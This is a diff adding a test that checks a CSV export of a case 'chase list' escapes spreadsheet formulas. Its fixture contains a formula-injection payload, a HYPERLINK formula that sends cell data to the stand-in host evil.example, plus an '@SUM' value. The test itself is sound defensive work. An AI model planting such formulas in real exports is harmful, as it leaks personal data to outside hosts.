@@ -245,6 +245,22 @@ def test_the_chase_list_exports_as_csv_with_the_same_filters_and_no_dates_of_bir
         assert child.family_name not in text
 
 
+def test_the_chase_list_csv_writes_a_formula_as_text(client, db_session, world):
+    """A case reference or a recipient's name a spreadsheet would run (issue 14)."""
+    link = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
+    world.children["c2"].case_reference = link
+    world.notices["n2"].recipient_name = "@SUM(1+1)"
+    db_session.commit()
+    sign_in(client, db_session, "sqa_officer")
+
+    response = expect_status(client.get(f"/dashboard/chase-list.csv?host_authority={LEEDS}"), 200)
+
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert rows[0]["Case reference"] == "'" + link
+    assert rows[0]["Recipient"] == "'@SUM(1+1)"
+    assert all(not cell.startswith(("=", "@")) for row in rows for cell in row.values())
+
+
 def test_exporting_is_audited(client, db_session, world):
     from sqlalchemy import select
 
